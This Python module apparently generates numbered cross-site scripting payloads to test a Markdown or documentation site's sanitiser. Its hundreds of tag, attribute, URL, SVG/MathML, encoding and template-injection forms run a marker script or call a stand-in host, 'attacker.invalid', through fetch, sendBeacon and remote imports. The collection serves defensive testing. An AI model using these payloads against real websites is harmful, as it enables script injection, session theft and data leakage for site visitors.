"""Hostile text: what somebody might write who wants a reader's browser to run a script, or to call another host.

Every payload runs ``pwn(number)`` in one way or another, or asks a host that does not exist for something.
"""

import base64
import html
import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

HOST = "attacker.invalid"

SCRIPTS = (
    "pwn({n})",
    "alert({n})",
    "window.ran={n}",
    "top['p'+'wn']({n})",
    "eval('pwn({n})')",
    "Function('pwn({n})')()",
    "setTimeout('pwn({n})')",
    "fetch('//{host}/{n}')",
    "location='//{host}/{n}'",
    "import('//{host}/{n}.js')",
    "new Image().src='//{host}/{n}'",
    "document.write('<img src=//{host}/{n}>')",
    "navigator.sendBeacon('//{host}/{n}')",
    "confirm`{n}`",
)
"""{n} is the payload's number."""

TAGS = (
    # scripts
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script type=module>{js}</script>",
    "<script src=//{host}/{n}.js></script>",
    '<script src="data:text/javascript,{jsurl}"></script>',
    "<script/x src=//{host}/{n}.js></script>",
    "<script x>{js}</script x>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "</script><script>{js}</script>",
    "--><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><script>{js}</script>]]>",
    "<?xml ?><script>{js}</script>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><script>{js}</script></template>",
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    '<iframe><p title="</iframe><img src=x onerror={js}>">',
    '<noembed><p title="</noembed><img src=x onerror={js}>">',
    # event handlers
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<img/src=x/onerror={js}>",
    "<img src=x:x onerror={js}//",
    '<IMG """><SCRIPT>{js}</SCRIPT>">',
    "<image src=x onerror={js}>",
    "<img src onerror={ent}>",
    "<img src=x onerror\x0c=\x0c{js}>",
    "<body onload={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<xss id=x tabindex=1 autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<video poster=//{host}/{n}></video>",
    "<track default src=//{host}/{n} onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<b onmouseover={js}>x</b>",
    "<b onclick={js} onpointerenter={js} oncopy={js}>x</b>",
    "<b contenteditable onblur={js} oninput={js}>x</b>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={js}>x</b>",
    "<b style=transition:color+1s ontransitionend={js}>x</b>",
    "<button popovertarget=pop{n}>x</button><div popover id=pop{n} onbeforetoggle={js}>x</div>",
    "<dialog open onclose={js} oncancel={js}><form method=dialog><button>x</button></form></dialog>",
    "<p onscrollend={js} onwheel={js}>x</p>",
    # addresses
    '<a href="javascript:{js}">x</a>',
    '<a href="jAvAsCrIpT:{js}">x</a>',
    '<a href="java\tscript:{js}">x</a>',
    '<a href="java&#9;script:{js}">x</a>',
    '<a href="java&Tab;script&colon;{js}">x</a>',
    '<a href="&#x6a;avascript:{js}">x</a>',
    '<a href=" &#14; javascript:{js}">x</a>',
    '<a href="javascript&colon;{js}">x</a>',
    '<a href="javascript://x/%0a{jsurl}">x</a>',
    '<a href="vbscript:{js}">x</a>',
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    '<a href="data:text/html;base64,{b64}">x</a>',
    '<a href="#" ping="//{host}/{n}">x</a>',
    '<area href="javascript:{js}">',
    '<form action="javascript:{js}"><button>x</button></form>',
    '<form action="//{host}/{n}"><input name=q><button>x</button></form>',
    '<form><button formaction="javascript:{js}">x</button></form>',
    '<input type=image src=x onerror={js} formaction="javascript:{js}">',
    "<isindex action=javascript:{js} type=submit>",
    # things that are loaded
    '<iframe src="javascript:parent.{js}"></iframe>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<iframe src="data:text/html,<script>parent.{js}</script>"></iframe>',
    "<iframe src=//{host}/{n}></iframe>",
    '<object data="javascript:{js}"></object>',
    '<object data="data:text/html,<script>{js}</script>"></object>',
    "<object data=//{host}/{n}></object>",
    "<embed src=//{host}/{n}.swf>",
    '<embed src="javascript:{js}">',
    "<applet code=//{host}/{n}.class></applet>",
    "<frameset onload={js}><frame src=//{host}/{n}></frameset>",
    "<portal src=//{host}/{n}></portal>",
    "<img src=//{host}/{n}.png>",
    "<img src=https://{host}/{n}.png alt=x>",
    '<img src="\thttps://{host}/{n}.png">',
    '<img src="\\\\{host}\\{n}.png">',
    "<img srcset='//{host}/{n}.png 1x' src=x>",
    "<picture><source srcset=//{host}/{n}.png><img src=x></picture>",
    "<table background=//{host}/{n}.png><td background=//{host}/{n}.png>x</table>",
    "<link rel=stylesheet href=//{host}/{n}.css>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<link rel=modulepreload href=//{host}/{n}.js>",
    "<link rel=manifest href=//{host}/{n}>",
    "<link rel=icon href=//{host}/{n}.ico>",
    "<base href=//{host}/>",
    '<base href="javascript:/{js}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">',
    '<meta http-equiv=Content-Security-Policy content="script-src *"><script>{js}</script>',
    # style
    "<style>@import '//{host}/{n}.css';</style>",
    "<style>body{{background:url(//{host}/{n}.png)}}</style>",
    '<p style="background:url(//{host}/{n}.png)">x</p>',
    '<p style="width:expression({js})">x</p>',
    '<p style="-moz-binding:url(//{host}/{n})">x</p>',
    "<style><img src=x onerror={js}></style>",
    "<style></style onload={js}>",
    # SVG
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script>{ent}</script></svg>",
    "<svg><script href=//{host}/{n}.js /></svg>",
    "<svg><script xlink:href=data:,{jsurl} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributeName=x to=1></svg>",
    '<svg><a><animate attributeName=href values="javascript:{js}" /><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{js}'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></desc></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    '<svg><title><style><img title="</style><img src=x onerror={js}>">',
    "<svg><image href=//{host}/{n}.png /></svg>",
    "<svg><feImage href=//{host}/{n}.png /></svg>",
    # MathML
    '<math href="javascript:{js}">x</math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:{js}">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<math><mi//xlink:href="data:x,<script>{js}</script>">',
    # what the theme's own scripts look for
    '<p id=__config>{{"base":"//{host}/","features":["navigation.instant"],"search":"//{host}/{n}.js"}}</p>',
    '<a id=__md_scope href="//{host}/{n}">x</a>',
    "<form name=search><input name=query></form><img name=forms>",
    '<pre class=mermaid><code>graph TD; A["<img src=x onerror={js}>"]</code></pre>',
    '<p data-md-component=search data-clipboard-text="<img src=x onerror={js}>">x</p>',
    '<p class="md-dialog md-consent" data-md-component=consent>x</p>',
    # attributes that are broken out of
    '" onmouseover={js} x="',
    "' onmouseover={js} x='",
    '" autofocus onfocus="{js}" x="',
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    '"><script>{js}</script>',
    "`onmouseover={js}`",
    "&quot;><img src=x onerror={js}>",
    "&#34;&#62;<script>{js}</script>",
    '" style="background:url(//{host}/{n}.png)" x="',
    "]]></description><script>{js}</script>",
    # entities and Unicode
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&#x3c;img src=x onerror={js}&#x3e;",
    "&#0000060img src=x onerror={js}&#0000062",
    "＜script＞{js}＜/script＞",
    "<\u017fcript>{js}</\u017fcript>",
    "<img src=x \u200bonerror={js}>",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    # templates
    "{{{{ {js} }}}}",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "{{{{ [].constructor.constructor('{js}')() }}}}",
    "${{{js}}}",
    "\x02wzxhzdk:0\x03<script>{js}</script>",
)
"""{js} is a script, {ent} the same in entities, {jsurl} percent-encoded, {b64} a page with it in base 64."""

ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "&#106;avascript:{js}",
    "javascript&colon;{js}",
    "javascript://x/%0a{jsurl}",
    "javascript:/*--></title></style></script><svg/onload='{js}'>",
    "%6aavascript:{js}",
    "data:text/html,<script>{jsurl}</script>",
    "data:text/html;base64,{b64}",
    "data:image/svg+xml,<svg/onload={jsurl}>",
    "vbscript:{js}",
    "//{host}/{n}.png",
    "https://{host}/{n}.png",
    "\\\\{host}\\{n}.png",
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
    'x"onerror="{js}',
    "x'onerror='{js}",
    "x\u00a0onerror={js}",
    '#"><img/src=x/onerror={js}>',
    "x.md#<script>{js}</script>",
)

_FOREIGN = re.compile(r"<(?:svg|math)\b", re.IGNORECASE)
# Where an image stays open, it is closed with what it stands in.
_OPENED = re.compile(r"<(?!img\b)([a-z][a-z0-9-]*)", re.IGNORECASE)

END = "\"'>-->]]></p>"
"""What every end begins with: it closes attributes, comments and a paragraph."""
_INNER = "</p></ul></li></h2></strong></p>"
"""Inside SVG and MathML nothing is closed but the innermost element, which may be one that Markdown put there.

It may well put another paragraph where the first one ends. More than 500 tags in one place would be refused.
"""
_MARKDOWN = (
    "</p></td></table></h2></li></ol></ul></dd></dl></blockquote></summary></details>"
    # Whatever it stands in, such an element goes on in all that follows, until it is closed.
    "</a></b></code></del></em></strong>"
)
"""What closes the elements that Markdown makes around a text, in which a payload may have left its own open."""


@dataclass(frozen=True)
class Payload:
    """One attack, as text, as an address and as a bare script."""

    number: int
    text: str
    address: str
    script: str


def ends(text: str) -> str:
    """What closes all that a text may have left open, so that what follows stands on its own."""
    inner = _INNER if _FOREIGN.search(text) else ""
    tags = (f"{inner}</{name}>" for name in reversed(_OPENED.findall(text)))
    return f"{END}{''.join(tags)}{_MARKDOWN}"


def make_payloads(count: int, chance: random.Random) -> list[Payload]:
    """So many payloads: each form once, in any order, as long as they last, then at random and disguised a little."""
    tags, addresses = (chance.sample(forms, len(forms)) for forms in (TAGS, ADDRESSES))
    return [_make(number, tags, addresses, chance) for number in range(count)]


def _make(number: int, tags: list[str], addresses: list[str], chance: random.Random) -> Payload:
    script = chance.choice(SCRIPTS).format(n=number, host=HOST)
    words = {
        "n": str(number),
        "host": HOST,
        "js": script,
        "ent": "".join(f"&#{ord(char)};" for char in script),
        "jsurl": quote(script),
        "b64": base64.b64encode(f"<script>{script}</script>".encode()).decode(),
    }
    text = _turn(tags, number, chance).format(**words)
    if number >= len(tags):
        text = chance.choice(DISGUISES)(text, chance)
    return Payload(number, text, _turn(addresses, number, chance).format(**words), script)


def _turn(forms: list[str], number: int, chance: random.Random) -> str:
    return forms[number] if number < len(forms) else chance.choice(forms)


def _plain(text: str, chance: random.Random) -> str:
    return text


def _mixed_case(text: str, chance: random.Random) -> str:
    """Tag names in mixed case; scripts must keep theirs."""
    head, mark, rest = text.partition(" ")
    return "".join(chance.choice((char.upper(), char.lower())) for char in head) + mark + rest if mark else text


def _nested(text: str, chance: random.Random) -> str:
    return chance.choice(("<b>{}</b>", "**{}**", "<p>{}", "x {} y", "<table><td>{}", "\\{}", "<details>{}")).format(
        text
    )


def _slashes(text: str, chance: random.Random) -> str:
    return text.replace(" ", "/", 1)


def _doubled(text: str, chance: random.Random) -> str:
    return f"{text}{text}"


def _escaped(text: str, chance: random.Random) -> str:
    return html.escape(text)


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    _plain,
    _mixed_case,
    _nested,
    _slashes,
    _doubled,
    _escaped,
)
